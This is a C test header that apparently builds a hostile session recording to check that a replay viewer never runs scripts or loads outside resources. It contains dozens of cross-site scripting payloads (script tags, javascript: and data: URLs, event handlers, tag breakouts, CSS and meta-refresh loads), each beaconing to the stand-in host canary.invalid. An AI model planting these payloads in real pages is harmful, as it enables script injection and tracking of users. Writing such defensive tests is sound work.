// hostile.h — a recording that tries everything against who watches it. Each try, should it work, asks canary.invalid
// for something or sets `top.harkRan`.
#ifndef HARK_TESTS_REPLAY_HOSTILE_H
#define HARK_TESTS_REPLAY_HOSTILE_H

#include "tests/replay/stream.h"

#define CANARY "http://canary.invalid/"
#define RUN "top.harkRan=1;parent.harkRan=1;new Image().src='" CANARY "script'"

typedef struct {
  const char *element, *attribute, *value, *text;
} hostile_try;

// Each is put into the body with its attribute and text.
static const hostile_try hostile_tries[] = {
    {"script", "src", CANARY "script.js", RUN},
    {"script", "type", "module", RUN},
    {"svg:script", "href", CANARY "svg-script.js", RUN},
    {"math:script", "src", CANARY "math-script.js", RUN},
    {"img", "onerror", RUN, NULL},
    {"img", "src", CANARY "img.png", NULL},
    {"img", "srcset", CANARY "srcset.png 1x", NULL},
    {"img", "src", " \tjava\nscript:" RUN, NULL},
    {"image", "src", CANARY "image.png", NULL},
    {"source", "srcset", CANARY "source.png", NULL},
    {"svg:image", "href", CANARY "svg-image.png", NULL},
    {"svg:image", "xlink:href", CANARY "svg-image2.png", NULL},
    {"svg:use", "href", CANARY "sprite.svg#a", NULL},
    {"svg:use", "xlink:href", "data:image/svg+xml,<svg id='x' onload='" RUN "'/>#x", NULL},
    {"svg:svg", "onload", RUN, NULL},
    {"svg:animate", "onbegin", RUN, NULL},
    {"svg:set", "to", "javascript:" RUN, NULL},
    {"svg:a", "xlink:href", "javascript:" RUN, "go"},
    {"svg:style", "id", "s", "</style><script>" RUN "</script>"},
    {"math:mi", "href", "javascript:" RUN, "x"},
    {"a", "href", "javascript:" RUN, "click me"},
    {"a", "ping", CANARY "ping", "click me"},
    {"a", "href", CANARY "navigate", "click me"},
    {"area", "href", "JaVaScRiPt:" RUN, NULL},
    {"iframe", "src", CANARY "iframe", NULL},
    {"iframe", "src", "javascript:" RUN, NULL},
    {"iframe", "srcdoc", "<script>" RUN "</script><img src=" CANARY "srcdoc>", NULL},
    {"iframe", "sandbox", "allow-scripts allow-same-origin allow-top-navigation", NULL},
    {"frame", "src", CANARY "frame", NULL},
    {"object", "data", CANARY "object", NULL},
    {"object", "data", "data:text/html,<script>" RUN "</script>", NULL},
    {"embed", "src", CANARY "embed", NULL},
    {"portal", "src", CANARY "portal", NULL},
    {"video", "src", CANARY "video.mp4", NULL},
    {"video", "poster", CANARY "poster.png", NULL},
    {"audio", "src", CANARY "audio.mp3", NULL},
    {"track", "src", CANARY "track.vtt", NULL},
    {"input", "onfocus", RUN, NULL},
    {"input", "autofocus", "", NULL},
    {"input", "src", CANARY "input.png", NULL},
    {"form", "action", CANARY "form", "form"},
    {"button", "formaction", "javascript:" RUN, "send"},
    {"details", "ontoggle", RUN, "more"},
    {"marquee", "onstart", RUN, "m"},
    {"body", "background", CANARY "background.png", NULL},
    {"table", "background", CANARY "table.png", NULL},
    {"div", "style", "background:url(" CANARY "style.png);width:9px;height:9px", "d"},
    {"div", "style", "background:image-set('" CANARY "set.png' 1x);list-style:url(" CANARY "list.png)", "d"},
    {"style", "id", "s1", "@import '" CANARY "import.css';body{background:url(" CANARY "css.png)}"},
    {"style", "id", "s2", "@font-face{font-family:x;src:url(" CANARY "font.woff)}body{font-family:x}"},
    {"style", "id", "s3", "</style><script>" RUN "</script><img src=x onerror=" RUN ">"},
    {"textarea", "id", "t", "</textarea><script>" RUN "</script>"},
    {"title", "id", "t", "</title><script>" RUN "</script>"},
    {"noscript", "id", "n", "</noscript><script>" RUN "</script>"},
    {"xmp", "id", "x", "</xmp><script>" RUN "</script>"},
    {"plaintext", "id", "p", "<script>" RUN "</script>"},
    {"template", "shadowrootmode", "open", "<script>" RUN "</script>"},
    {"noembed", "id", "n", "</noembed><script>" RUN "</script>"},
    {"meta", "http-equiv", "refresh", NULL},
    {"meta", "content", "0;url=" CANARY "refresh", NULL},
    {"base", "href", CANARY, NULL},
    {"link", "href", CANARY "link.css", NULL},
    {"link", "rel", "stylesheet", NULL},
    {"div><script>" RUN "</script", "id", "n", NULL},
    {"div", "x><script>" RUN "</script><b y", "1", NULL},
    {"div", "x\"onclick", RUN, NULL},
    {"div", "onmouseover", RUN, "hover"},
    {"div", "id", "\"><script>" RUN "</script>", "quote"},
    {"p", "id", "p", "<script>" RUN "</script><img src=x onerror=" RUN ">"},
};

static inline void put_hostile_try(stream *s, uint32_t body, const hostile_try *t) {
  put_numbers3(s, HARK_EVENT_SUBTREE, body, 0, 0);
  put_element(s, 0, t->element);
  put_attribute(s, t->attribute, t->value);
  if (t->text) {
    put_text_node(s, 0, t->text);
  }
}

// Two attributes that only together do harm.
static inline void put_hostile_pair(stream *s, uint32_t body, const char *element, const char *const pairs[4]) {
  put_numbers3(s, HARK_EVENT_SUBTREE, body, 0, 0);
  put_element(s, 0, element);
  put_attribute(s, pairs[0], pairs[1]);
  put_attribute(s, pairs[2], pairs[3]);
}

static inline void put_hostile_sheets(stream *s, uint32_t link) {
  stream_push(s, &(hark_event){.kind = HARK_EVENT_SHEET,
                               .n = {1, link, 0},
                               .texts = {[3] = text_of("</style><script>" RUN "</script>i{background:url(" CANARY
                                                       "sheet.png)}body::after{content:url(" CANARY "content.png)}")}});
  stream_push(s, &(hark_event){.kind = HARK_EVENT_SHEET_INSERT,
                               .n = {1, 0},
                               .texts = {[2] = text_of("@import url(" CANARY "inserted.css);")}});
  stream_push(s, &(hark_event){.kind = HARK_EVENT_SHEET,
                               .n = {2, 0, 0},
                               .texts = {[3] = text_of("body{cursor:url(" CANARY "cursor.png),auto}")}});
  put_numbers3(s, HARK_EVENT_ADOPT, 1, 0, 2);
}

// The picture that an element is said to show.
static inline void put_hostile_sources(stream *s, uint32_t body) {
  static const char *const elements[] = {"img", "canvas", "iframe", "script", "embed", "video", "input", "svg:image"};
  static const char *const urls[] = {
      CANARY "source-event.png",
      "javascript:" RUN,
      "data:text/html,<script>" RUN "</script>",
      "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='" RUN "'/>",
      "data:image/png,x);background:url(" CANARY "bracket.png",
      "data:image/png,x\");background:url(\"" CANARY "quote.png",
  };
  for (size_t i = 0; i < sizeof elements / sizeof *elements; i++) {
    for (size_t j = 0; j < sizeof urls / sizeof *urls; j++) {
      put_numbers3(s, HARK_EVENT_SUBTREE, body, 0, 0);
      uint32_t id = put_element(s, 0, elements[i]);
      put_numbers3(s, HARK_EVENT_SIZE, id, 20, 20);
      stream_push(s, &(hark_event){.kind = HARK_EVENT_SOURCE, .n = {id}, .texts = {[1] = text_of(urls[j])}});
    }
  }
}

// A frame's document and a shadow root, with the same inside.
static inline void put_hostile_inner(stream *s, uint32_t body) {
  put_numbers3(s, HARK_EVENT_SUBTREE, body, 0, 0);
  put_element(s, 0, "iframe");
  put_numbers3(s, HARK_EVENT_DOCUMENT, 0, 1, 0);
  put_element(s, 0, "html");
  uint32_t inner = put_element(s, 0, "body");
  for (size_t i = 0; i < sizeof hostile_tries / sizeof *hostile_tries; i++) {
    put_hostile_try(s, inner, &hostile_tries[i]);
  }
  put_numbers3(s, HARK_EVENT_SUBTREE, body, 0, 0);
  put_element(s, 0, "div");
  put_numbers3(s, HARK_EVENT_SHADOW, 0, 0, 0);
  uint32_t shadow = s->next_node - 1;
  for (size_t i = 0; i < sizeof hostile_tries / sizeof *hostile_tries; i++) {
    put_hostile_try(s, shadow, &hostile_tries[i]);
  }
}

static inline void hostile_recording(stream *s) {
  put_page(s);
  uint32_t body = 5;
  for (size_t i = 0; i < sizeof hostile_tries / sizeof *hostile_tries; i++) {
    put_hostile_try(s, body, &hostile_tries[i]);
  }
  put_hostile_pair(s, body, "meta", (const char *const[]){"http-equiv", "refresh", "content", "0;url=" CANARY "now"});
  put_hostile_pair(s, body, "link", (const char *const[]){"rel", "stylesheet", "href", CANARY "pair.css"});
  put_hostile_pair(s, body, "link",
                   (const char *const[]){"rel", "preload prefetch dns-prefetch", "href", CANARY "pre"});
  put_hostile_pair(s, body, "img", (const char *const[]){"src", "x:", "onerror", RUN});
  put_hostile_pair(s, body, "iframe", (const char *const[]){"src", "about:blank", "onload", RUN});
  put_numbers3(s, HARK_EVENT_SUBTREE, 4, 0, 0);
  uint32_t link = put_element(s, 0, "link");
  put_hostile_sheets(s, link);
  put_hostile_inner(s, body);
  put_hostile_sources(s, body);
  stream_seal(s);
  put_tick(s, 100);
  // The same by way of changes.
  put_numbers3(s, HARK_EVENT_SUBTREE, body, 0, 0);
  uint32_t image = put_element(s, 0, "img");
  put_named(s, HARK_EVENT_SET_ATTRIBUTE, image, "onerror", RUN);
  put_named(s, HARK_EVENT_SET_ATTRIBUTE, image, "src", CANARY "set.png");
  put_named(s, HARK_EVENT_SET_ATTRIBUTE, image, "srcset", CANARY "set2.png");
  put_named(s, HARK_EVENT_SET_ATTRIBUTE, body, "onload", RUN);
  put_numbers3(s, HARK_EVENT_SUBTREE, body, 0, 0);
  uint32_t script = put_element(s, 0, "script");
  put_numbers3(s, HARK_EVENT_SUBTREE, script, 0, 0);
  put_text_node(s, 0, RUN);
  put_numbers3(s, HARK_EVENT_FOCUS, image, 0, 0);
  stream_push(s,
              &(hark_event){
                  .kind = HARK_EVENT_CLICK,
                  .n = {image, 20, 20, 1, 0},
                  .texts = {[5] = text_of("<img src=x onerror=" RUN ">"), [6] = text_of("<script>" RUN "</script>")}});
  stream_push(
      s, &(hark_event){.kind = HARK_EVENT_NAVIGATE,
                       .n = {1},
                       .texts = {[1] = text_of("javascript:" RUN), [2] = text_of("</title><script>" RUN "</script>")}});
  put_tick(s, 400);
  stream_seal(s);
}

#endif
